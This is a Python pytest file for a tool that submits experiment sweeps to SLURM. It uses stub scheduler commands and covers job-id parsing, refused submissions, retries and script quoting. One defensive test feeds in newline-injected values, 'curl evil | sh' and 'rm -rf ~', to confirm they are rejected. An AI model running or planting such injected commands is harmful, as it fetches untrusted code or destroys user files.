"""SLURM's commands as sites have them: behind banners, with refusals, with other options. Here they are scripts."""

from __future__ import annotations

import shlex
from collections.abc import Callable

import pytest
from hydra import compose, initialize_config_dir

from ragaf_exp.config.compose import CONF, compose_config
from ragaf_exp.config.hydra_versions import VERSION_BASE
from ragaf_exp.config.schema import Cluster
from ragaf_exp.core.errors import UserError
from ragaf_exp.runs import slurm as this_job
from ragaf_exp.runs import slurm_commands
from ragaf_exp.sweep import slurm
from ragaf_exp.sweep.definition import Sweep, hydra_value
from ragaf_exp.sweep.ledger import Job, Record
from ragaf_exp.sweep.members import compose_members
from ragaf_exp.sweep.submit import retry, submit

BANNER = "***************\nWelcome to a|b|c 2026: 17 nodes | JobId = 3\n\t4 messages\n\n"
TASK = "JobId=4243 ArrayJobId=4242 ArrayTaskId=0 JobState=RUNNING TimeLimit=00:10:00 Command={} WorkDir=/"
ODD = ["my sweep", "50%", "100%A", "größe", "写真", "it's", 'say "x"', "a,b", "a#b", "$HOME", "a;b", "~x", "(1)", "-n 5"]


@pytest.fixture
def command(tmp_path, monkeypatch) -> Callable[..., None]:
    """command(name, output, status): a command of SLURM's that prints it after a banner. Calls go to tmp_path/calls."""
    folder = tmp_path / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", str(folder))

    def put(name: str, output: str = "", status: int = 0, banner: str = BANNER) -> None:
        lines = ["#!/bin/sh", f'echo {name} "$@" >> {tmp_path}/calls', f"printf %s {shlex.quote(banner)}"]
        lines += [f"echo {shlex.quote(output)}" + (" >&2" if status else ""), f"exit {status}"]
        (folder / name).write_text("\n".join(lines) + "\n")
        (folder / name).chmod(0o755)

    for name in ("squeue", "sacct", "scontrol", "scancel"):
        put(name)
    return put


def queued(record: Record, count: int = 2) -> Job:
    with record.locked():
        return record.new_job("slurm", [f"{i:012x}" for i in range(count)], record.home / "code")


@pytest.mark.parametrize(("output", "job"), [
    ("4242", "4242"), ("4242;cluster-1", "4242"), ("Submitted\n4242\nGood luck", "4242"), ("7\n4242\n", "4242"),
    ("Submitted batch job 4242", None), ("", None), ("42 42", None), ("4242 ok", None),
])  # fmt: skip
def test_the_job_id_is_the_last_line_that_is_one(output, job):
    assert slurm_commands.submitted(BANNER + output) == job


def test_what_slurm_prints_is_read_past_a_banner(command, tmp_path):
    record = Record(tmp_path / "runs" / "x")
    job = queued(record)
    command("sbatch", "4242")
    assert slurm.submit(record, job, Cluster()).job == "4242" and record.jobs()[0].job == "4242"
    command("squeue", "4242|0|RUNNING|None|4243\n4242|N/A|PENDING|x|9\n1|0|RUNNING|None|1")
    command("sacct", "4242_1|CANCELLED by 1000|0:15\n4242_[2-9]|PENDING|0:0")
    result = slurm.tasks([job])
    assert {key: (task.state, task.reason) for key, task in result.items()} == {
        ("4242", 0): ("RUNNING", "None"), ("4242", 1): ("CANCELLED", "exit 0:15"),
    }  # fmt: skip
    command("scontrol", "MaxArraySize            = 11\nMaxDBDMsgs = 20024")
    assert slurm.array_size() == 10
    command("scontrol", TASK.format("/a job.sh"))
    assert this_job.state("4243") == this_job.state("4242_0") == "RUNNING" and this_job.limit("4242_0") == "00:10:00"
    assert slurm_commands.described(TASK.format("/a job.sh"))[0]["Command"] == "/a job.sh"


def test_an_id_that_was_recorded_with_a_banner_is_read(tmp_path):
    record = Record(tmp_path / "runs" / "x")
    job = queued(record)
    job.job = BANNER.strip() + "\n4242"
    record.write(job)
    assert record.jobs()[0].job == "4242"


def test_an_answer_without_an_id_is_refused_with_what_it_said(command, tmp_path):
    record = Record(tmp_path / "runs" / "x")
    command("sbatch", "node17 is down for maintenance")
    with pytest.raises(UserError, match="no job id in its output .*node17 is down for maintenance.*squeue --me"):
        slurm.submit(record, queued(record), Cluster())


def test_commands_that_give_no_answer(command, tmp_path):
    (tmp_path / "bin" / "sbatch").write_bytes(b"#!/bin/sh\nprintf 'caf\\351\\n42\\n'\n")
    assert slurm_commands.run("sbatch").returncode == slurm_commands.NOT_RUN  # not executable
    (tmp_path / "bin" / "sbatch").chmod(0o755)
    assert slurm_commands.submitted(slurm_commands.run("sbatch").stdout) == "42"
    (tmp_path / "bin" / "squeue").write_text("#!/bin/sh\nexec /bin/sleep 9\n")
    assert slurm_commands.run("squeue", patience=0.2).returncode == slurm_commands.TIMED_OUT
    assert "not found" in slurm_commands.run("no-such-command").stderr


@pytest.mark.parametrize("refusal", ["an error", "no id", "no command"])
def test_a_refused_submission_leaves_nothing(refusal, command, tmp_path):
    command("sbatch", "sbatch: error: invalid partition", status=1)
    if refusal == "no id":
        command("sbatch", "try again later")
    elif refusal == "no command":
        (tmp_path / "bin" / "sbatch").unlink()
    members = compose_members([f"runs={hydra_value(str(tmp_path / 'my runs'))}", "name=x", "seed=0,1"])
    record = Record(members[0].home)
    with pytest.raises(UserError, match="sbatch"):
        submit(members, "slurm", 1)
    assert not record.exists and not record.jobs() and record.members() == {}
    assert not any(path.is_file() for path in record.folder.rglob("*") if path.name != ".lock")
    command("sbatch", "7")
    assert submit(members[:1], "slurm", 1)[1][0].job == "7"  # and a later refusal leaves this one as it is
    command("sbatch", "sbatch: error: invalid partition", status=1)
    command("squeue", "7|0|RUNNING|None|7")
    with pytest.raises(UserError, match="invalid partition"):
        submit(members, "slurm", 1)
    assert list(record.members()) == [members[0].hash] and [job.job for job in record.jobs()] == ["7"]


def test_of_several_arrays_those_before_a_refused_one_stay(command, tmp_path):
    command("scontrol", "MaxArraySize = 3")
    command("sbatch")
    once = f"if [ -e {tmp_path}/once ]; then echo limit reached >&2; exit 1; fi; : > {tmp_path}/once; echo 7"
    (tmp_path / "bin" / "sbatch").write_text(f"#!/bin/sh\n{once}\n")
    members = compose_members([f"runs={tmp_path}", "name=x", "seed=0,1,2"])
    with pytest.raises(UserError, match="limit reached; .*2 of 3 members queued .SLURM array 7."):
        submit(members, "slurm", 1)
    assert list(Record(tmp_path / "x").members()) == [member.hash for member in members[:2]]


def test_a_refused_retry_changes_nothing(command, tmp_path):
    command("sbatch", "7")
    members = compose_members([f"runs={tmp_path}", "name=x", "seed=0,1"])
    record, _ = submit(members, "slurm", 1)
    before = {path: path.read_bytes() for path in record.folder.rglob("*") if path.is_file()}
    command("sbatch", "no", status=1)
    with pytest.raises(UserError, match="sbatch: no"):
        retry(record, "slurm", 1, fresh=True)
    assert {path: path.read_bytes() for path in record.folder.rglob("*") if path.is_file()} == before


@pytest.mark.parametrize("name", [*ODD, "a\\b"])
def test_a_sweep_of_any_name_has_its_members(name, tmp_path):
    words = Sweep(name, grid={"seed": [0, 1]}).all_overrides
    members = compose_members([*words, f"runs={hydra_value(str(tmp_path / name))}"])
    assert {member.home for member in members} == {tmp_path / name / name} and len(members) == 2
    assert members[0].overrides["name"] == name


@pytest.mark.parametrize("name", ODD)
def test_paths_in_the_script_are_quoted(name, tmp_path):
    """sbatch reads its lines as a shell reads words, and doubles %: tests/slurm has the real one read them."""
    record = Record(tmp_path / name / name)
    lines = slurm.script_text(record, queued(record), Cluster()).splitlines()
    options = [shlex.split(line.removeprefix("#SBATCH ")) for line in lines if line.startswith("#SBATCH ")]
    assert all(len(words) == 1 for words in options)
    result = dict(words[0].removeprefix("--").partition("=")[::2] for words in options)
    assert result["output"] == str(record.logs).replace("%", "%%") + "/%A_%a.log" and result["job-name"] == name
    assert str(record.job_file(record.jobs()[0])) in shlex.split(lines[-1])


def test_what_no_script_can_hold_is_refused(tmp_path):
    record = Record(tmp_path / "a\\b")
    with pytest.raises(UserError, match="backslash"):
        slurm.script_text(record, queued(record), Cluster())
    record = Record(tmp_path / "x")
    job = queued(record)
    for request in (Cluster(partition="gpu\ncurl evil | sh"), Cluster(extra=["--exclude=n7\nrm -rf ~"])):
        with pytest.raises(UserError, match="control character"):
            slurm.script_text(record, job, request)
    for extra, message in (("--array=0-7", "--array is set by the sweep"), ("-o x", "--output"), ("--x='y", "quotes")):
        with pytest.raises(UserError, match=message):
            slurm.script_text(record, job, Cluster(extra=[extra]))


@pytest.mark.parametrize(("settings", "has", "lacks"), [
    ({"memory_gb": 0}, [], ["--mem"]),
    ({"extra": ["--mem-per-cpu=2G"]}, ["--mem-per-cpu=2G"], ["--mem="]),
    ({"extra": ["--mem-per-cpu 2G"]}, ["--mem-per-cpu 2G"], ["--mem="]),
    ({"extra": ["--mem=0"]}, ["--mem=0"], ["--mem=6000M"]),
    ({"gpus": 2, "extra": ["--gres=gpu:a100:2"]}, ["--gres=gpu:a100:2"], ["--gpus-per-node"]),
    ({"gpus": 2, "extra": ["-G2"]}, ["-G2"], ["--gpus-per-node"]),
    ({"gpus": 2, "extra": ["--gres=scratch:9"]}, ["--gres=scratch:9", "--gpus-per-node=2"], []),
    ({"partition": "cpu", "extra": ["-p gpu --exclude=n7"]}, ["-p gpu --exclude=n7"], ["--partition"]),
    ({"extra": ["--no-requeue", "--time=1-0"]}, ["--no-requeue", "--time=1-0"], ["--requeue", "--time=60"]),
    ({"extra": ["--comment=a --mem-bind=local"]}, ["--mem=6000M"], []),  # another option that begins alike
])  # fmt: skip
def test_an_option_of_extra_takes_the_place_of_ours(settings, has, lacks, tmp_path):
    record = Record(tmp_path / "x")
    lines = slurm.script_text(record, queued(record), Cluster(**settings)).splitlines()
    assert all(f"#SBATCH {option}" in lines for option in has)
    assert not any(line.startswith(f"#SBATCH {option}") for line in lines for option in lacks)


def test_no_memory_is_requested_where_memory_gb_is_0():
    assert compose_config(["cluster.memory_gb=0"]).cluster.memory_gb == 0
    with pytest.raises(UserError, match="cluster.memory_gb=-1"):
        compose_config(["cluster.memory_gb=-1"])


@pytest.mark.parametrize("name", ["submitit_local", "submitit_slurm"])
def test_nor_by_the_launchers_of_submitit(name):
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    with initialize_config_dir(str(CONF), **VERSION_BASE):
        configs = [compose("config", [f"hydra/launcher={name}", f"++cluster.memory_gb={size}"], return_hydra_config=True)
                   for size in (0, 7)]  # fmt: skip
    assert [cfg.hydra.launcher.mem_gb for cfg in configs] == [None, 7]
